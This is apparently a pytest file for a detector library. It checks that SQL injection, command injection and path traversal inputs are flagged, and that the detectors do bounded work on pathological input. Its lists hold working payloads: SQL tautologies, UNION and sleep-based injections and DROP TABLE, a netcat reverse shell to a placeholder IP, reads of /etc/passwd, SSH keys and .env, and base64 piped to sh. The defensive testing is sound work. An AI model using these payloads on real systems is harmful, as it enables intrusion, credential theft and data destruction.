"""The confirmers on their own: constructs they must take, text they must leave, and bounded work on any input."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from eastwall.detections.command_injection import shell
from eastwall.detections.path_traversal.detector import traversal
from eastwall.detections.sql_injection import grammar, lexer

SQL = """
' or 'a'='a
' or ''='
" or ""="
') or ('1'='1
admin'--
admin' #
admin'/*
admin') --
1 OR 1=1
1/**/or/**/1=1
1 && 1=1
1||1=1
1 or not 1=2
' or 1 -- -
' or true--
' or 1 or '
' or name is not null--
' or username like '%a
' or id=1 or '1'='2
' or exists(select 1 from users)--
O'Brien' or 1=1--
\\' or 1=1--
id`=1 or 1=1
1 union select 1,2,3
-1 union all select null,null
x' union/**/select/**/1,2--
1e0union select 1,2
' AND 1=2 UNION SELECT username, password FROM users--
/*!50000union*/ select 1
1;DROP TABLE x
1; update users set role='admin' where id=5
1);delete from users
x'; insert into users values(1,'a')--
'; exec xp_cmdshell('dir')--
'; waitfor delay '0:0:5'--
1;select pg_sleep(5)
1 and sleep(5)
'-sleep(5)-'
' || pg_sleep(10)--
sleep(5)#
if(1=1,sleep(5),0)
(select * from (select(sleep(20)))a)
' and extractvalue(1,concat(0x7e,version()))#
1' and ascii(substr((select password from users limit 1),1,1))>64--
1 and (select count(*) from users)>0
1 AND 1=CONVERT(int,@@version)
'||(select 1)||'
'+(select 0)+'
(CASE WHEN 1=1 THEN 1 ELSE 0 END)
1 order by 10--
' order by 3#
' having 1=1--
' group by id having 1=1--
','x')--
1 procedure analyse(extractvalue(1,1))
desc limit 1 into outfile '/tmp/x'
1 or 0x31=0x31
1) or 1=1 limit 1 offset 1--
' or 1=1 limit 1 offset 1--
1 where 2=2
""".strip().splitlines()
COMMANDS = """
; cat /etc/passwd
a;id
a)|id|
127.0.0.1 && whoami
8.8.8.8;id
1 & dir
$(id)
a$(whoami)b
`id`
ax--exec=`id`--remote=origin
x;{cat,/etc/passwd}
x;cat${IFS}/etc/passwd
; w\\ho\\am\\i
;c''at /etc/passwd
; cat /et'c/pa'ss'wd
; /???/c?t /???/p??s??
x|nc -e /bin/sh 192.0.2.1 9
x || ping -c 3 192.0.2.1
x; sleep 10
x|sleep 5
|whoami
"; cat /etc/passwd; "
'; ls -la #
x && echo vulnerable
; python -c 'import os'
; nslookup $(whoami).example.com
& ping -n 10 127.0.0.1 &
& net user
| type %SYSTEMROOT%\\win.ini
| powershell -enc AAAA
() { :; }; echo ; /bin/bash -c 'id'
<!--#exec cmd="ls" -->
';system('id');'
<?php system('id'); ?>
require('child_process').exec('id')
/bin/cat /etc/passwd
/usr/bin/id
$(echo aWQ=|base64 -d|sh)
x;shutdown -h now
""".strip().splitlines()
PATHS = """
../../../../etc/passwd
/static/img/../../etc/passwd
..\\..\\..\\windows\\win.ini
c:\\boot.ini
/proc/self/environ
....//....//etc/passwd
..././..././etc/passwd
..;/..;/manager/html
file:///etc/./passwd
file:/c:/windows/win.ini
php://filter/convert.base64-encode/resource=index.php
\\\\::1\\c$\\users\\default\\ntuser.dat
/../../../
/..0x5c..0x5cx
0x2e0x2e/x
../WEB-INF/web.xml
~/.ssh/id_rsa
images/../../../etc/hosts
/./././././x
../../../.env
""".strip().splitlines()


@pytest.mark.parametrize("text", SQL)
def test_sql(text: str) -> None:
    assert grammar.injection(text)


@pytest.mark.parametrize("text", COMMANDS)
def test_commands(text: str) -> None:
    assert shell.injection(text)


@pytest.mark.parametrize("text", PATHS)
def test_paths(text: str) -> None:
    assert traversal(text)


def test_line_breaks_and_null_bytes() -> None:
    assert shell.injection("127.0.0.1\nuname -a")
    assert traversal("report.txt\x00.png")
    assert shell.injection("id\nname\ndate") is None


@pytest.mark.parametrize(
    ("text", "shape"),
    [
        ("1 or 'a'='b", "1&s=o"),
        ("select * from information_schema.tables -- x", "E+FMc"),
        ("1st, 2nd and 3.5e2x", "m,m&1n"),
        ("sleep(5) /* a */ + count(*)", "d(1)+f(+)"),
        ("@@version; drop table `x`", "v;Xtm"),
        ("1or 1=1", "1&1=1"),
        ("it''s", "nsn"),
        ("union all select", "UE"),
        ("\u00e9t\u00e9 \U0001f600 ?", "nnx"),
    ],
)
def test_shapes(text: str, shape: str) -> None:
    assert lexer.lex(text).shape == shape


HARD = {
    "quotes": "a'" * 50_000,
    "unpaired backslashes": "'\\" * 50_000,
    "brackets": "(" * 100_000,
    "closing": ")" * 100_000,
    "dashes": "-" * 100_000,
    "comments": "/*" * 50_000,
    "operators": "or 1=" * 20_000,
    "calls": "sleep(" * 20_000,
    "selects": "(select " * 15_000,
    "square": "[a " * 30_000,
    "dollars": "$a$" * 30_000,
    "separators": ";x " * 30_000,
    "backticks": "`id" * 30_000,
    "braces": "{a," * 30_000,
    "functions": "() {" * 20_000,
    "exec": "exec('" * 20_000,
    "ups": "../" * 30_000,
    "dots": "." * 100_000,
    "current": "/./" * 30_000,
    "hex": "0x2e" * 25_000,
    "words": "lorem ipsum " * 9_000,
    "spaces": " " * 100_000,
}


@pytest.mark.parametrize("name", HARD)
@pytest.mark.parametrize("confirm", [grammar.injection, shell.injection, traversal], ids=["sql", "command", "path"])
def test_work_is_bounded(name: str, confirm: object) -> None:
    # Processor time of this thread, far above what is needed (a millisecond or a few): quadratic work on 100 KB takes minutes.
    start = time.thread_time()
    confirm(HARD[name])  # type: ignore[operator]
    assert time.thread_time() - start < 1.0


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300) | st.text(alphabet="'\"`;|&$(){}[]<>=-/*\\#.%+, \n01aorselctunion", max_size=200))
def test_confirmers_never_raise(text: str) -> None:
    for confirm in (grammar.injection, shell.injection, traversal):
        reason = confirm(text)
        assert reason is None or (reason and reason[0].islower() and not reason.endswith("."))
